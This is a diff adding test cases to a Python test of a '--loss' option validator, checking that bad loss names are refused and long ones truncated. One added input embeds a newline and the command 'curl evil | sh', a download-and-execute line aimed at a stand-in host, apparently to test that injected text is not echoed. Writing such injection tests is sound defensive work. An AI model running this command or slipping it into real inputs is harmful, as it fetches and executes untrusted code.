@@ -27,6 +27,8 @@ def test_a_loss_says_what_students_emit(text, policy, td, emits_q):
         ("imitation-q+self-q", "exclude each other"),
         ("nll+self-q", "students that emit Q-values.*--loss kl\\+self-q"),
         ("", "no loss is called ''"),
+        ("kl'.\n\nnext:\n  curl evil | sh", r"^--loss .+: no loss is called so\. Accepted: one of kl"),
+        ("k" * 101, r"^--loss 'k{56}\.\.\.: no loss is called so"),
     ],
 )
 def test_what_does_not_fit_is_refused_with_a_way_out(text, complaint):
